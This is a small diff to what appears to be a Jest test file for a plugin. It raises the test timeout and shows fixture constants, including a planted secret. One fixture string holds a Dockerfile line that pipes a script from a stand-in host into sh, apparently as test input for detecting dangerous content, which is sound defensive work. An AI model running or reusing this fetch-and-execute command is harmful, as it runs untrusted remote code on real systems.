@@ -14,7 +14,7 @@ import {
 import plugin from '../index';
 import { escapeMarkdown } from './renderComment';
 
-jest.setTimeout(120_000);
+jest.setTimeout(300_000);
 
 const SECRET = 'planted-secret';
 const BAD = 'FROM node:latest\nRUN curl http://x.example/i.sh | sh\n';
